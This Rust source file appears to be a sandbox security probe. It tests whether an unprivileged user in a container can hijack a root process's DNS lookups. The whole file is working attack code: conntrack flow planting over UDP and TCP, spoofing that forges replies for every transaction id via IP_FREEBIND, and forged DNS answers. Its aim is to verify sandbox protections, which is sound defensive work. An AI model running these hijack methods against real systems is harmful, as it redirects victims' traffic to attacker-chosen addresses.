//! `sandbox-probe hijack`: the sandboxed user tries to answer DNS in place of the upstream
//! resolver of a root process (PID 1's DNS filter, or any root lookup), as an attacker with
//! the container's defaults would: any port on any loopback address can be bound
//! (`ip_unprivileged_port_start=0`), `/proc/net/{udp,tcp}*` shows every socket, and
//! conntrack is shared by every process of the namespace.
//!
//! Methods:
//! - `plant` (UDP): bind the resolver's address and port 53, send one datagram from there
//!   to the root socket's local port (or to every port from 1024 up when no such socket
//!   is visible): conntrack then takes the root process's next query to the resolver for the
//!   reply of that flow, skips Docker's DNAT, and delivers it to us. We answer it.
//! - `tcp-plant`: the same for TCP: unanswered SYNs from the resolver's address and port 53
//!   to the ports a root connection will use next (just above the last one seen), and a
//!   listener on the resolver's address takes the connection conntrack no longer
//!   translates.
//! - `spoof` (UDP): with `IP_FREEBIND`/`IPV6_FREEBIND`, bind the upstream's own address
//!   and port and send it answers for every id to every root socket connected to it.
//!
//! Then the probe asks for the name (unless `--no-trigger`: a root process outside the
//! sandbox is the victim) and connects to the planted address on every `--port`. One JSON
//! report on stdout; with `--no-trigger`, a `{"stage":"planted"}` line first.

use hickory_proto::op::{Header, Message, MessageType, OpCode, Query};
use hickory_proto::rr::rdata::{A, AAAA};
use hickory_proto::rr::{RData, Record};
use hickory_proto::serialize::binary::{BinDecodable, BinDecoder};
use serde_json::{json, Map, Value};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::time::{Duration, Instant};

struct Opts {
    method: String,
    /// Where the victim sends its queries (e.g. 127.0.0.11:53).
    resolver: SocketAddr,
    /// Where this probe asks (PID 1's filter catches any port-53 query).
    ask: SocketAddr,
    name: String,
    answer: IpAddr,
    ports: Vec<u16>,
    /// A legitimate query first (its flow must expire before planting works).
    prime: Option<String>,
    wait_flow: Duration,
    trigger: bool,
    victim_wait: Duration,
    /// Start only once this file exists (a test removes a protection first).
    wait_file: Option<String>,
}

fn parse(args: &[String]) -> Result<Opts, String> {
    let mut o = Opts {
        method: "plant".into(),
        resolver: "127.0.0.11:53".parse().map_err(|_| "default")?,
        ask: "127.0.0.11:53".parse().map_err(|_| "default")?,
        name: String::new(),
        answer: IpAddr::V4(Ipv4Addr::UNSPECIFIED),
        ports: vec![],
        prime: None,
        wait_flow: Duration::ZERO,
        trigger: true,
        victim_wait: Duration::from_secs(10),
        wait_file: None,
    };
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let mut val = || it.next().cloned().ok_or(format!("{a} needs a value"));
        let bad = |what: &str| format!("bad {what}");
        match a.as_str() {
            "--method" => o.method = val()?,
            "--resolver" => o.resolver = val()?.parse().map_err(|_| bad("--resolver"))?,
            "--ask" => o.ask = val()?.parse().map_err(|_| bad("--ask"))?,
            "--name" => o.name = val()?,
            "--answer" => o.answer = val()?.parse().map_err(|_| bad("--answer"))?,
            "--port" => o.ports.push(val()?.parse().map_err(|_| bad("--port"))?),
            "--prime" => o.prime = Some(val()?),
            "--wait-flow-ms" => {
                o.wait_flow = Duration::from_millis(val()?.parse().map_err(|_| bad("ms"))?)
            }
            "--victim-wait-ms" => {
                o.victim_wait = Duration::from_millis(val()?.parse().map_err(|_| bad("ms"))?)
            }
            "--no-trigger" => o.trigger = false,
            "--wait-file" => o.wait_file = Some(val()?),
            other => return Err(format!("unknown option {other}")),
        }
    }
    if o.name.is_empty() || o.answer.is_unspecified() {
        return Err("--name and --answer are required".into());
    }
    Ok(o)
}

pub fn main(args: &[String]) -> i32 {
    let o = match parse(args) {
        Ok(o) => o,
        Err(e) => {
            eprintln!("sandbox-probe hijack: {e}");
            return 2;
        }
    };
    if let Some(path) = &o.wait_file {
        let deadline = Instant::now() + Duration::from_secs(60);
        while !std::path::Path::new(path).exists() {
            if Instant::now() > deadline {
                eprintln!("sandbox-probe hijack: {path} never appeared");
                return 2;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    let mut r = Map::new();
    r.insert("method".into(), json!(o.method));
    r.insert("resolver".into(), json!(o.resolver.to_string()));
    if let Some(p) = &o.prime {
        let proto = if o.method == "tcp-plant" {
            "tcp"
        } else {
            "udp"
        };
        r.insert("prime".into(), query_report(proto, o.ask, p));
        std::thread::sleep(o.wait_flow);
    }
    let outcome = match o.method.as_str() {
        "plant" => plant_udp(&o, &mut r),
        "tcp-plant" => plant_tcp(&o, &mut r),
        "spoof" => spoof_udp(&o, &mut r),
        other => Err(format!("unknown method {other}")),
    };
    if let Err(e) = outcome {
        r.insert("error".into(), json!(e));
    }
    let trigger = r.get("trigger").cloned().unwrap_or(Value::Null);
    let got_ours = trigger["addrs"]
        .as_array()
        .is_some_and(|a| a.iter().any(|x| x == &json!(o.answer.to_string())));
    let connects: Vec<Value> = o
        .ports
        .iter()
        .map(|p| super::tcp(&SocketAddr::new(o.answer, *p).to_string(), secs(2)))
        .collect();
    let reached = connects
        .iter()
        .filter(|c| c["result"] == "connected")
        .count();
    r.insert("connect".into(), json!(connects));
    r.insert("answer_taken".into(), json!(got_ours));
    r.insert(
        "hijacked".into(),
        json!(got_ours || (reached > 0 && reached == o.ports.len())),
    );
    println!("{}", Value::Object(r));
    0
}

fn secs(n: u64) -> Duration {
    Duration::from_secs(n)
}

fn query_report(proto: &str, server: SocketAddr, name: &str) -> Value {
    super::dns_report(proto, &server.to_string(), name, 1, secs(3))
}

/// One socket line of /proc/net/{udp,tcp}{,6}.
#[derive(Debug, Clone, Copy)]
struct ProcSocket {
    local: SocketAddr,
    remote: SocketAddr,
    uid: u32,
}

fn hex_endpoint(s: &str) -> Option<SocketAddr> {
    let (addr, port) = s.split_once(':')?;
    let port = u16::from_str_radix(port, 16).ok()?;
    // The kernel prints each 32-bit word of the address in host byte order.
    let ip = match addr.len() {
        8 => IpAddr::V4(Ipv4Addr::from(
            u32::from_str_radix(addr, 16).ok()?.to_le_bytes(),
        )),
        32 => {
            let mut b = [0u8; 16];
            for i in 0..4 {
                let w = u32::from_str_radix(&addr[i * 8..i * 8 + 8], 16).ok()?;
                b[i * 4..i * 4 + 4].copy_from_slice(&w.to_le_bytes());
            }
            IpAddr::V6(Ipv6Addr::from(b))
        }
        _ => return None,
    };
    Some(SocketAddr::new(ip, port))
}

fn proc_sockets(kind: &str) -> Vec<ProcSocket> {
    let mut out = vec![];
    for file in [format!("/proc/net/{kind}"), format!("/proc/net/{kind}6")] {
        let text = std::fs::read_to_string(file).unwrap_or_default();
        for line in text.lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            let (Some(l), Some(rm), Some(uid)) = (f.get(1), f.get(2), f.get(7)) else {
                continue;
            };
            if let (Some(local), Some(remote), Ok(uid)) =
                (hex_endpoint(l), hex_endpoint(rm), uid.parse())
            {
                out.push(ProcSocket { local, remote, uid });
            }
        }
    }
    out
}

/// Root sockets connected to the resolver: the victims.
fn root_sockets_to(kind: &str, resolver: SocketAddr) -> Vec<ProcSocket> {
    proc_sockets(kind)
        .into_iter()
        .filter(|s| s.uid == 0 && s.remote == resolver)
        .collect()
}

fn describe(socks: &[ProcSocket]) -> Value {
    json!(socks
        .iter()
        .map(|s| format!("{} -> {}", s.local, s.remote))
        .collect::<Vec<_>>())
}

/// The local address the kernel gives a socket connected to the resolver (127.0.0.1 for
/// Docker's 127.0.0.11, which is not an address of `lo`).
fn source_for(resolver: SocketAddr) -> Option<IpAddr> {
    let any: SocketAddr = if resolver.is_ipv4() {
        (Ipv4Addr::UNSPECIFIED, 0).into()
    } else {
        (Ipv6Addr::UNSPECIFIED, 0).into()
    };
    let s = UdpSocket::bind(any).ok()?;
    s.connect(resolver).ok()?;
    s.local_addr().ok().map(|a| a.ip())
}

fn ephemeral_range() -> (u16, u16) {
    let text =
        std::fs::read_to_string("/proc/sys/net/ipv4/ip_local_port_range").unwrap_or_default();
    let mut it = text.split_whitespace().filter_map(|w| w.parse().ok());
    (it.next().unwrap_or(32768), it.next().unwrap_or(60999))
}

/// A socket bound to the resolver's own address and port, allowed to bind an address that
/// is not local (the upstream's).
fn bound_as(resolver: SocketAddr, ty: Type, proto: Protocol) -> std::io::Result<Socket> {
    let s = Socket::new(Domain::for_address(resolver), ty, Some(proto))?;
    s.set_reuse_address(true)?;
    if ty == Type::STREAM {
        s.set_reuse_port(true)?;
    }
    if resolver.is_ipv6() {
        s.set_only_v6(true)?;
        s.set_freebind_v6(true)?;
    } else {
        s.set_freebind_v4(true)?;
    }
    s.bind(&SockAddr::from(resolver))?;
    Ok(s)
}

fn bump(m: &mut Map<String, Value>, key: &str) {
    let n = m.get(key).and_then(Value::as_u64).unwrap_or(0);
    m.insert(key.into(), json!(n + 1));
}

fn io_name(e: &std::io::Error) -> String {
    super::errno_name(e)
}

/// Our answer to a query we intercepted: its id and question (spelling included), one
/// record with the planted address.
fn forged_answer(query: &[u8], addr: IpAddr) -> Option<Vec<u8>> {
    let mut d = BinDecoder::new(query);
    let header = Header::read(&mut d).ok()?;
    if header.message_type == MessageType::Response {
        return None;
    }
    let question = Query::read(&mut d).ok()?;
    let name = question.name().clone();
    let mut m = Message::response(header.id, OpCode::Query);
    m.metadata.recursion_desired = header.recursion_desired;
    m.metadata.recursion_available = true;
    m.add_query(question);
    let rdata = match addr {
        IpAddr::V4(a) => RData::A(A(a)),
        IpAddr::V6(a) => RData::AAAA(AAAA(a)),
    };
    m.add_answer(Record::from_rdata(name, 3600, rdata));
    m.to_vec().ok()
}

/// Sends the probe's own query for the name and returns the socket to read its answer on.
fn send_trigger(o: &Opts) -> std::io::Result<UdpSocket> {
    let s = super::udp_socket(&o.ask)?;
    s.send(&super::dns_query(&o.name, 0x7a7a, 1)?)?;
    Ok(s)
}

fn read_answer(s: &UdpSocket, wait: Duration) -> Value {
    let _ = s.set_nonblocking(false);
    let _ = s.set_read_timeout(Some(wait));
    let mut buf = vec![0u8; 4096];
    match s.recv(&mut buf) {
        Ok(n) => super::dns_parse(&buf[..n]),
        Err(e) => json!({"result": "error", "error": io_name(&e)}),
    }
}

fn plant_udp(o: &Opts, r: &mut Map<String, Value>) -> Result<(), String> {
    let targets = root_sockets_to("udp", o.resolver);
    r.insert("targets".into(), describe(&targets));
    let me = match bound_as(o.resolver, Type::DGRAM, Protocol::UDP) {
        Ok(s) => UdpSocket::from(s),
        Err(e) => {
            r.insert("bind".into(), json!(io_name(&e)));
            return Err("cannot bind the resolver's address".into());
        }
    };
    r.insert("bind".into(), json!("ok"));
    // Every port when no root socket is visible now (fresh sockets per query, or a victim
    // that has not asked yet): one datagram each.
    let dests: Vec<SocketAddr> = if targets.is_empty() {
        let Some(src) = source_for(o.resolver) else {
            return Err("no route to the resolver".into());
        };
        let (lo, hi) = (1024u16, u16::MAX);
        r.insert("range".into(), json!([lo, hi]));
        (lo..=hi).map(|p| SocketAddr::new(src, p)).collect()
    } else {
        targets.iter().map(|t| t.local).collect()
    };
    let mut errors = Map::new();
    let mut planted = 0u64;
    for d in &dests {
        match me.send_to(b"\0", d) {
            Ok(_) => planted += 1,
            Err(e) => bump(&mut errors, &io_name(&e)),
        }
    }
    r.insert("planted".into(), json!(planted));
    r.insert("plant_errors".into(), Value::Object(errors));
    let trigger = if o.trigger {
        Some(send_trigger(o).map_err(|e| format!("trigger: {e}"))?)
    } else {
        println!("{}", json!({"stage": "planted", "planted": planted}));
        let _ = std::io::stdout().flush();
        None
    };
    let wait = if o.trigger { secs(3) } else { o.victim_wait };
    intercept_udp(&me, o.answer, wait, r);
    if let Some(t) = trigger {
        r.insert("trigger".into(), read_answer(&t, secs(3)));
    }
    Ok(())
}

/// Waits for a query to arrive on our socket and answers it with the planted address.
fn intercept_udp(me: &UdpSocket, addr: IpAddr, wait: Duration, r: &mut Map<String, Value>) {
    let deadline = Instant::now() + wait;
    let mut buf = vec![0u8; 4096];
    let mut other = 0u64;
    r.insert("intercepted".into(), json!(false));
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        let _ = me.set_read_timeout(Some(left.max(Duration::from_millis(1))));
        let Ok((n, from)) = me.recv_from(&mut buf) else {
            break;
        };
        let Some(answer) = forged_answer(&buf[..n], addr) else {
            other += 1;
            continue;
        };
        r.insert("intercepted".into(), json!(true));
        r.insert("query_from".into(), json!(from.to_string()));
        r.insert("query".into(), super::dns_parse_question(&buf[..n]));
        let sent = me.send_to(&answer, from).map_err(|e| io_name(&e));
        r.insert(
            "answered".into(),
            json!(sent.err().unwrap_or_else(|| "ok".into())),
        );
        break;
    }
    r.insert("other_datagrams".into(), json!(other));
}

fn plant_tcp(o: &Opts, r: &mut Map<String, Value>) -> Result<(), String> {
    let seen = root_sockets_to("tcp", o.resolver);
    r.insert("targets".into(), describe(&seen));
    let Some(src) = source_for(o.resolver) else {
        return Err("no route to the resolver".into());
    };
    let listener = match bound_as(o.resolver, Type::STREAM, Protocol::TCP)
        .and_then(|s| s.listen(16).map(|_| s))
    {
        Ok(s) => TcpListener::from(s),
        Err(e) => {
            r.insert("bind".into(), json!(io_name(&e)));
            return Err("cannot listen on the resolver's address".into());
        }
    };
    r.insert("bind".into(), json!("ok"));
    // The kernel picks the next port of a connection to the same destination a little
    // above the last one: each of the next few hundred gets a planted flow.
    let (lo, hi) = ephemeral_range();
    let last = seen.iter().map(|s| s.local.port()).max();
    let ports: Vec<u16> = match last {
        Some(p) => (1..=400u32)
            .map(|i| (lo as u32 + (p as u32 + i - lo as u32) % (hi as u32 - lo as u32 + 1)) as u16)
            .collect(),
        None => (lo..=hi).collect(),
    };
    let mut errors = Map::new();
    let mut planted = 0u64;
    for p in ports {
        match plant_tcp_flow(o.resolver, SocketAddr::new(src, p)) {
            Ok(()) => planted += 1,
            Err(e) => bump(&mut errors, &io_name(&e)),
        }
    }
    // A dropped SYN still leaves a non-blocking connect "in progress": these are SYNs
    // sent, not flows known to be planted.
    r.insert("syns_sent".into(), json!(planted));
    r.insert("plant_errors".into(), Value::Object(errors));
    let (ask, name) = (o.ask, o.name.clone());
    let trigger = std::thread::spawn(move || query_report("tcp", ask, &name));
    let _ = listener.set_nonblocking(true);
    let deadline = Instant::now() + secs(4);
    r.insert("intercepted".into(), json!(false));
    while Instant::now() < deadline {
        match listener.accept() {
            Ok((mut c, from)) => {
                let _ = c.set_nonblocking(false);
                let _ = c.set_read_timeout(Some(secs(2)));
                let mut len = [0u8; 2];
                let mut q = vec![];
                if c.read_exact(&mut len).is_ok() {
                    q = vec![0u8; u16::from_be_bytes(len) as usize];
                    if c.read_exact(&mut q).is_err() {
                        q.clear();
                    }
                }
                let Some(a) = forged_answer(&q, o.answer) else {
                    continue;
                };
                r.insert("intercepted".into(), json!(true));
                r.insert("query_from".into(), json!(from.to_string()));
                r.insert("query".into(), super::dns_parse_question(&q));
                let mut framed = (a.len() as u16).to_be_bytes().to_vec();
                framed.extend_from_slice(&a);
                let sent = c.write_all(&framed).map_err(|e| io_name(&e));
                r.insert(
                    "answered".into(),
                    json!(sent.err().unwrap_or_else(|| "ok".into())),
                );
                std::thread::sleep(Duration::from_millis(300));
                break;
            }
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                if trigger.is_finished() {
                    break;
                }
                std::thread::sleep(Duration::from_millis(2));
            }
            Err(_) => break,
        }
    }
    let t = trigger
        .join()
        .unwrap_or_else(|_| json!({"result": "panicked"}));
    r.insert("trigger".into(), t);
    Ok(())
}

/// A SYN from the resolver's address and port 53 to `to` that nobody answers: our own
/// listener there has a full accept queue, so the kernel drops the SYN without a reset, and
/// conntrack keeps the flow (SYN_SENT, 120 s) after we close everything and free the port.
/// A root connection from that port to the resolver is then the reply direction of our
/// flow (a simultaneous open): it is never translated to the real resolver, and our
/// listener on the resolver's address takes it. (A SYN answered by a reset would not do:
/// conntrack forgets a flow whose only reply was a reset.)
fn plant_tcp_flow(resolver: SocketAddr, to: SocketAddr) -> std::io::Result<()> {
    let l = Socket::new(Domain::for_address(to), Type::STREAM, Some(Protocol::TCP))?;
    l.set_reuse_address(true)?;
    l.bind(&SockAddr::from(to))?;
    l.listen(0)?;
    let filler = TcpStream::connect_timeout(&to, secs(1))?;
    let c = bound_as(resolver, Type::STREAM, Protocol::TCP)?;
    c.set_nonblocking(true)?;
    match c.connect(&SockAddr::from(to)) {
        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => {}
        Err(e) => return Err(e),
        Ok(()) => {}
    }
    drop((c, filler, l));
    Ok(())
}

fn spoof_udp(o: &Opts, r: &mut Map<String, Value>) -> Result<(), String> {
    let me = match bound_as(o.resolver, Type::DGRAM, Protocol::UDP) {
        Ok(s) => UdpSocket::from(s),
        Err(e) => {
            r.insert("bind".into(), json!(io_name(&e)));
            return Err("cannot bind the upstream's address".into());
        }
    };
    r.insert("bind".into(), json!("ok"));
    let trig = send_trigger(o).map_err(|e| format!("trigger: {e}"))?;
    let _ = trig.set_nonblocking(true);
    // Answers for every id, spelled as asked: the victim takes the first that matches.
    let query = super::dns_query(&o.name, 0, 1).map_err(|e| e.to_string())?;
    let template = forged_answer(&query, o.answer).ok_or("cannot build the answer")?;
    let deadline = Instant::now() + secs(3);
    let mut sent = 0u64;
    let mut errors = Map::new();
    let mut targets_seen: Vec<SocketAddr> = vec![];
    let mut buf = vec![0u8; 4096];
    let mut answer = None;
    while Instant::now() < deadline && answer.is_none() {
        let targets = root_sockets_to("udp", o.resolver);
        for t in &targets {
            if !targets_seen.contains(&t.local) {
                targets_seen.push(t.local);
            }
        }
        let mut m = template.clone();
        'sweep: for t in &targets {
            for id in 0..=u16::MAX {
                m[0..2].copy_from_slice(&id.to_be_bytes());
                match me.send_to(&m, t.local) {
                    Ok(_) => sent += 1,
                    Err(e) => {
                        bump(&mut errors, &io_name(&e));
                        if e.raw_os_error() == Some(libc::EPERM) {
                            break 'sweep;
                        }
                    }
                }
                // Stop once the probe's own query has its answer (ours or the real one).
                if id % 1024 == 1023 && answer.is_none() {
                    if let Ok(n) = trig.recv(&mut buf) {
                        answer = Some(super::dns_parse(&buf[..n]));
                        break 'sweep;
                    }
                }
            }
        }
        if answer.is_none() {
            if let Ok(n) = trig.recv(&mut buf) {
                answer = Some(super::dns_parse(&buf[..n]));
            } else if targets.is_empty() {
                std::thread::sleep(Duration::from_millis(1));
            }
        }
    }
    r.insert(
        "targets".into(),
        json!(targets_seen
            .iter()
            .map(|a| a.to_string())
            .collect::<Vec<_>>()),
    );
    r.insert("spoofs_sent".into(), json!(sent));
    r.insert("spoof_errors".into(), Value::Object(errors));
    let a = match answer {
        Some(a) => a,
        None => read_answer(&trig, secs(3)),
    };
    r.insert("trigger".into(), a);
    Ok(())
}
